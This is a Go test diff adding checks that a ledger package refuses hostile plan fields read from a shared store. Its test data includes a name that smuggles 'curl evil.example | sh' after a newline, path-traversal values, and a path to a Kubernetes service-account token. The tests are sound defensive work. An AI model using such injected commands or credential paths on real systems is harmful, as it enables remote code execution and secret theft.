@@ -2,6 +2,7 @@ package ledger
 
 import (
 	"context"
+	"encoding/json"
 	"reflect"
 	"strings"
 	"testing"
@@ -52,4 +53,57 @@ func TestPlan(t *testing.T) {
 			t.Error("a plan whose chunks skip query 0 was accepted")
 		}
 	})
+}
+
+// A plan is read from a store every partition and site can write: a
+// hostile one is refused on reading, the error naming the field, before
+// its strings reach a script, a path or a job name.
+func TestReadPlanRefusesHostileFields(t *testing.T) {
+	forStores(t, func(t *testing.T, fresh func() objstore.Store) {
+		ctx := context.Background()
+		for field, mutate := range map[string]func(*Plan){
+			"plan name":              func(p *Plan) { p.Name = "x\ncurl evil.example | sh\n#" },
+			"plan name ":             func(p *Plan) { p.Name = "a.b" }, // dots part Slurm job names
+			"plan database.name":     func(p *Plan) { p.Database.Name = "../../etc" },
+			"plan database.manifest": func(p *Plan) { p.Database.Manifest = "../other/manifest.json" },
+			"plan queries.location":  func(p *Plan) { p.Queries.Location = "s3://b/q\n.fa" },
+			"plan database.location": func(p *Plan) { p.Database.Location = "relative/db" },
+		} {
+			st := fresh()
+			p := testPlan(ChunkByQueries(10, 3))
+			p.SchemaVersion, p.Policy = SchemaVersion, p.Policy.withDefaults()
+			mutate(p)
+			data, err := json.Marshal(p)
+			if err != nil {
+				t.Fatal(err)
+			}
+			// Written raw, as an attacker with the store's keys would.
+			if _, err := st.PutIfAbsent(ctx, PlanKey, data); err != nil {
+				t.Fatal(err)
+			}
+			if _, err := ReadPlan(ctx, st); err == nil || !strings.Contains(err.Error(), strings.TrimSpace(field)) {
+				t.Errorf("%s: ReadPlan err = %v, want one naming the field", field, err)
+			}
+			if err := WritePlan(ctx, fresh(), p); err == nil || !strings.Contains(err.Error(), strings.TrimSpace(field)) {
+				t.Errorf("%s: WritePlan err = %v, want one naming the field", field, err)
+			}
+		}
+	})
+}
+
+// Local paths are for readers sharing the planner's filesystem only.
+func TestPlanCheckRemote(t *testing.T) {
+	p := testPlan(ChunkByQueries(10, 3))
+	if err := p.CheckRemote(); err != nil {
+		t.Errorf("s3 plan: %v", err)
+	}
+	p.Database.Location = "/etc"
+	if err := p.CheckRemote(); err == nil || !strings.Contains(err.Error(), "database.location") {
+		t.Errorf("local database: %v", err)
+	}
+	p = testPlan(ChunkByQueries(10, 3))
+	p.Queries.Location = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+	if err := p.CheckRemote(); err == nil || !strings.Contains(err.Error(), "queries.location") {
+		t.Errorf("local queries: %v", err)
+	}
 }
